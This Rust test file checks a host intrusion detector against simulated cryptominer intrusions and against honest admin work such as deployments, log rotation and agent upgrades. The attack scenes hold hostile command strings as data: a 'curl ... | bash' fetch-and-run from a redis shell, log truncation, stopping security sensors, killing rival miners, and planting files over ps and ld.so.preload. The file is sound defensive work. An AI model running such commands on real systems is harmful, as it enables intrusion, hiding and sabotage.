//! Hiding, sabotage, theft of credentials and spread: intrusions, and the honest work that looks like them.

use crate::{
    model::{Alert, EventBody, HiddenBy, HiddenProcess, ProcessKey, Verdict},
    testing::{Host, alerts, story, verdict},
};

fn host() -> (Host, ProcessKey) {
    let mut host = Host::new();
    let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
    (host, init)
}

/// Lets a person log in over SSH. Returns the login shell.
fn log_in(host: &mut Host, init: ProcessKey) -> ProcessKey {
    let sshd = host.spawn(init, "/usr/sbin/sshd", &["sshd"]);
    host.spawn(sshd, "/usr/bin/bash", &["-bash"])
}

/// Runs commands one after the other below a process.
fn run(host: &mut Host, parent: ProcessKey, commands: &[&str]) {
    for command in commands {
        let words: Vec<&str> = command.split(' ').collect();
        let process = host.spawn(parent, &format!("/usr/bin/{}", words[0]), &words);
        host.exit(process);
    }
}

/// Fetches a program from a server with a name, writes a unit for it and starts it, as installers do.
fn install(host: &mut Host, init: ProcessKey, script: ProcessKey, name: &str) {
    let curl =
        host.spawn(script, "/usr/bin/curl", &["curl", "-fsSLo", "/opt/x.tgz", "https://get.example.com/x"]);
    host.connect(curl, "198.51.100.7:443");
    host.create(curl, "/opt/x.tgz", 0o644);
    host.exit(curl);
    let tar = host.spawn(script, "/usr/bin/tar", &["tar", "xf", "/opt/x.tgz"]);
    let program = format!("/usr/local/bin/{name}");
    host.create(tar, &program, 0o755);
    host.exit(tar);
    host.create(script, &format!("/etc/systemd/system/{name}.service"), 0o644);
    let service = host.spawn(init, &program, &[&program]);
    host.connect(service, "198.51.100.7:443");
}

fn ids(alert: &Alert) -> Vec<&str> {
    alert.signals.iter().map(|signal| &*signal.id.0).collect()
}

#[test]
fn what_a_script_destroys_counts_for_the_program_that_it_drops() {
    let (mut host, init) = host();
    let redis = host.spawn(init, "/usr/bin/redis-server", &["redis-server"]);
    let shell = host.spawn(redis, "/usr/bin/dash", &["sh", "-c", "curl -s http://10.0.0.1:8000/i | bash"]);
    let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "-s", "http://10.0.0.1:8000/i"]);
    host.connect(curl, "10.0.0.1:8000");
    let script = host.spawn(shell, "/usr/bin/bash", &["bash"]);
    run(
        &mut host,
        script,
        &[
            "iptables -F",
            "systemctl stop aliyun.service",
            "pkill -9 xmrig",
            "pkill -9 kinsing",
            "pkill -9 kdevtmpfsi",
            "pkill -9 watchbog",
            "fuser -k 3333/tcp",
            "truncate -s 0 /var/log/wtmp",
            "chattr +i /var/spool/cron/root",
        ],
    );
    let fetch = host.spawn(script, "/usr/bin/curl", &["curl", "-so", "/tmp/.m", "http://10.0.0.1:8000/m"]);
    host.connect(fetch, "10.0.0.1:8000");
    host.create(fetch, "/tmp/.m", 0o755);
    let miner = host.spawn(script, "/tmp/.m", &["/tmp/.m"]);
    host.connect(miner, "10.0.0.5:443");
    let alerts = alerts(&host);
    let last = alerts.last().expect("an alert");
    assert_eq!(last.verdict, Verdict::Suspected, "{}", story(&alerts));
    for id in ["B8", "B8A", "B8R", "B8L", "B8I"] {
        assert!(ids(last).contains(&id), "{id}: {}", story(&alerts));
    }
    let bystanders = ["iptables", "systemctl", "pkill", "chattr"];
    assert!(
        last.suspects.iter().all(|suspect| !bystanders.contains(&&*suspect.process.name)),
        "a tool is no suspect: {}",
        story(&alerts)
    );
}

#[test]
fn sabotage_without_a_program_is_never_mining() {
    let (mut host, init) = host();
    let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
    let script = host.spawn(cron, "/usr/bin/bash", &["bash", "/root/clean.sh"]);
    run(
        &mut host,
        script,
        &[
            "setenforce 0",
            "systemctl stop falcon-sensor",
            "truncate -s 0 /var/log/secure",
            "chattr +i /etc/cron.d/x",
        ],
    );
    assert!(verdict(&host) <= Some(Verdict::Noted), "{}", story(&alerts(&host)));
}

#[test]
fn a_hidden_miner_that_was_there_before_is_named() {
    let (mut host, init) = host();
    let process = host.spawn(init, "/usr/bin/dbus-helper", &["dbus-helper"]);
    let hidden = HiddenProcess {
        by: HiddenBy::Mount,
        source: Some("tmpfs /".into()),
        preloaded: Vec::new(),
        process: None,
    };
    host.happen(process, EventBody::Hidden(Box::new(hidden)));
    let alerts = alerts(&host);
    let last = alerts.last().expect("an alert");
    assert_eq!(last.verdict, Verdict::Suspected);
    assert!(last.message.contains("hidden") || ids(last).contains(&"B5"), "{}", story(&alerts));
}

/// Honest work: a name, and what is done. `login` is the shell of a person, `init` starts services.
type Work = (&'static str, fn(&mut Host, ProcessKey, ProcessKey));

const WORK: [Work; 13] = [
    ("the set-up of a cluster's node", |host, init, login| {
        let script = host.spawn_script(login, "/usr/bin/bash", "/root/node.sh");
        run(
            host,
            script,
            &["swapoff -a", "setenforce 0", "systemctl disable --now firewalld", "modprobe br_netfilter"],
        );
        host.create(script, "/etc/modules-load.d/k8s.conf", 0o644);
        host.create(script, "/etc/sysctl.d/k8s.conf", 0o644);
        install(host, init, script, "kubelet-helper");
    }),
    ("a firewall of one's own", |host, init, _| {
        let script = host.spawn_script(init, "/usr/bin/bash", "/etc/firewall.sh");
        run(
            host,
            script,
            &["iptables -F", "iptables -P INPUT ACCEPT", "iptables -A INPUT -j DROP", "iptables-restore x"],
        );
    }),
    ("an image of a machine that is cleaned", |host, init, login| {
        let script = host.spawn_script(login, "/usr/bin/bash", "/tmp/script_1234.sh");
        install(host, init, script, "agentd");
        host.delete(script, "/root/.bash_history");
        host.write(script, "/var/log/wtmp");
        host.write(script, "/var/log/lastlog");
        run(host, script, &["truncate -s 0 /var/log/auth.log"]);
        host.create(script, "/etc/sudoers.d/vagrant", 0o440);
        host.create(script, "/home/vagrant/.ssh/authorized_keys", 0o600);
    }),
    ("accounts and keys", |host, _, login| {
        for (tool, file) in
            [("useradd", "passwd"), ("passwd", "shadow"), ("chage", "shadow"), ("groupadd", "group")]
        {
            let tool = host.spawn(login, &format!("/usr/sbin/{tool}"), &[tool, "x"]);
            host.rename(tool, &format!("/etc/{file}+"), &format!("/etc/{file}"));
        }
        let keygen = host.spawn(login, "/usr/bin/ssh-keygen", &["ssh-keygen", "-t", "ed25519"]);
        host.create(keygen, "/root/.ssh/id_ed25519", 0o600);
        let copy = host.spawn_script(login, "/usr/bin/dash", "/usr/bin/ssh-copy-id");
        let ssh = host.spawn(copy, "/usr/bin/ssh", &["ssh", "-o", "StrictHostKeyChecking=no", "root@a"]);
        host.connect(ssh, "10.0.0.9:22");
    }),
    ("an upgrade of a security agent", |host, init, login| {
        let apt = host.spawn(login, "/usr/bin/apt-get", &["apt-get", "install", "wazuh-agent"]);
        host.connect(apt, "198.51.100.8:443");
        let script = host.spawn_script(apt, "/usr/bin/dash", "/var/lib/dpkg/info/wazuh-agent.prerm");
        run(host, script, &["systemctl stop wazuh-agent", "pkill -f wazuh-modulesd"]);
        host.create(script, "/etc/init.d/wazuh-agent", 0o755);
        host.exit(apt);
        let agent = host.spawn(init, "/var/ossec/bin/wazuh-agentd", &["wazuh-agentd"]);
        host.connect(agent, "10.0.0.7:1514");
    }),
    ("a deployment to many hosts", |host, _, login| {
        let deploy = host.spawn_script(login, "/usr/bin/bash", "/srv/deploy.sh");
        for number in 1..=60 {
            let peer = format!("root@web{number}");
            let ssh = host.spawn(
                deploy,
                "/usr/bin/ssh",
                &["ssh", "-o", "StrictHostKeyChecking=no", &peer, "uptime"],
            );
            host.connect(ssh, &format!("10.0.1.{number}:22"));
            host.exit(ssh);
        }
    }),
    ("the stop script of an application", |host, init, login| {
        let script = host.spawn_script(login, "/usr/bin/bash", "/srv/app/restart.sh");
        run(
            host,
            script,
            &["pkill web1", "pkill web2", "pkill queue", "pkill cache", "pkill mail", "killall nginx"],
        );
        install(host, init, script, "app");
    }),
    ("a certificate that is renewed", |host, init, _| {
        let certbot = host.spawn_script(init, "/usr/bin/python3.11", "/usr/bin/certbot");
        host.connect(certbot, "198.51.100.9:443");
        host.create(certbot, "/etc/letsencrypt/live/x/fullchain.pem", 0o644);
        host.create(certbot, "/var/log/letsencrypt/letsencrypt.log", 0o644);
        run(host, certbot, &["systemctl reload nginx"]);
    }),
    ("log rotation", |host, init, _| {
        let rotate = host.spawn(init, "/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]);
        for log in ["syslog", "auth.log", "wtmp"] {
            host.rename(rotate, &format!("/var/log/{log}"), &format!("/var/log/{log}.1"));
            host.create(rotate, &format!("/var/log/{log}"), 0o640);
        }
        host.delete(rotate, "/var/log/syslog.8.gz");
        run(host, rotate, &["systemctl kill -s HUP rsyslog.service"]);
    }),
    ("a cluster's agent that enters its host", |host, init, _| {
        let agent = host.fork(init);
        host.enter(agent, "4f1c");
        host.exec(agent, init, "/usr/local/bin/longhorn", "/usr/local/bin/longhorn", &["longhorn"]);
        host.connect(agent, "10.0.0.3:443");
        for _ in 0..5 {
            run(host, agent, &["nsenter -t 1 -m mount", "nsenter --mount=/proc/1/ns/mnt iscsiadm"]);
        }
        host.write_as(agent, "/host/etc/systemd/system/x.service", "/etc/systemd/system/x.service");
    }),
    ("a monitor of many hosts", |host, init, _| {
        let monitor = host.spawn(init, "/usr/bin/prometheus", &["prometheus"]);
        for number in 1..=200 {
            let peer = format!("10.0.2.{number}:10250");
            if number % 20 == 0 {
                host.connect_fails(monitor, &peer, 110);
            } else {
                host.connect(monitor, &peer);
            }
        }
    }),
    ("a tool of the cloud in a home directory", |host, _, login| {
        let tool = host.spawn(login, "/home/me/.local/bin/aws", &["aws", "sts", "get-caller-identity"]);
        host.connect(tool, "169.254.169.254:80");
        host.connect(tool, "198.51.100.4:443");
    }),
    ("an antivirus that is updated", |host, init, _| {
        let freshclam = host.spawn(init, "/usr/bin/freshclam", &["freshclam", "-d"]);
        host.connect(freshclam, "198.51.100.5:443");
        host.create(freshclam, "/var/lib/clamav/daily.cld", 0o644);
        run(host, freshclam, &["systemctl restart clamav-daemon"]);
    }),
];

#[test]
fn honest_work_never_pages() {
    for (name, work) in WORK {
        let (mut host, init) = host();
        let login = log_in(&mut host, init);
        work(&mut host, init, login);
        assert!(verdict(&host) <= Some(Verdict::Noted), "{name}: {}", story(&alerts(&host)));
    }
}

#[test]
fn files_that_an_intruder_exchanges_count_at_both_names() {
    for swapped in [true, false] {
        let (mut host, init) = host();
        let redis = host.spawn(init, "/usr/bin/redis-server", &["redis-server"]);
        let shell = host.spawn(redis, "/usr/bin/dash", &["sh", "-c", "curl -s http://10.0.0.1:8000/i | sh"]);
        let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "-so", "/tmp/.m", "http://10.0.0.1:8000/m"]);
        host.connect(curl, "10.0.0.1:8000");
        for path in ["/tmp/.m", "/tmp/.job", "/tmp/.ps", "/tmp/.list"] {
            host.create(curl, path, 0o755);
        }
        for (dropped, place) in [
            ("/tmp/.job", "/etc/cron.d/backup"),
            ("/tmp/.ps", "/usr/bin/ps"),
            ("/tmp/.list", "/etc/ld.so.preload"),
            ("/tmp/.m", "/usr/local/bin/helper"),
        ] {
            let (one, other) = if swapped { (place, dropped) } else { (dropped, place) };
            host.exchange(shell, one, other);
        }
        let miner = host.spawn(shell, "/usr/local/bin/helper", &["helper"]);
        host.connect(miner, "10.0.0.5:443");
        let alerts = alerts(&host);
        let last = alerts.last().expect("an alert");
        assert_eq!(last.verdict, Verdict::Suspected, "{}", story(&alerts));
        for id in ["B6", "B7", "B8T"] {
            assert!(ids(last).contains(&id), "{id}: {}", story(&alerts));
        }
        let dropped = last.chain.iter().any(|edge| {
            edge.kind == crate::model::ChainKind::Drop && edge.object.contains("/usr/local/bin/helper")
        });
        assert!(dropped, "what runs is what was written: {}", story(&alerts));
    }
}

#[test]
fn deployments_packages_and_databases_exchange_files() {
    for swapped in [true, false] {
        let (mut host, init) = host();
        let login = log_in(&mut host, init);
        let deploy = host.spawn(login, "/usr/bin/python3", &["python3", "/srv/deploy.py"]);
        host.create(deploy, "/srv/app-2/bin/app", 0o755);
        let exchange = |host: &mut Host, process, one, other| {
            let (one, other) = if swapped { (other, one) } else { (one, other) };
            host.exchange_directories(process, one, other);
        };
        exchange(&mut host, deploy, "/srv/app-2", "/srv/app");
        let app = host.spawn(init, "/srv/app/bin/app", &["app"]);
        host.connect(app, "10.0.0.9:5432");
        let apt = host.spawn(login, "/usr/bin/apt-get", &["apt-get", "install", "procps"]);
        let dpkg = host.spawn(apt, "/usr/bin/dpkg", &["dpkg", "--unpack", "procps.deb"]);
        exchange(&mut host, dpkg, "/usr/bin/ps.dpkg-new", "/usr/bin/ps");
        exchange(&mut host, dpkg, "/etc/cron.d/x.dpkg-new", "/etc/cron.d/x");
        let database = host.spawn(init, "/usr/bin/mydb", &["mydb"]);
        for _ in 0..20 {
            exchange(&mut host, database, "/var/lib/mydb/CURRENT.tmp", "/var/lib/mydb/CURRENT");
        }
        assert_eq!(verdict(&host), None, "{}", story(&alerts(&host)));
    }
}
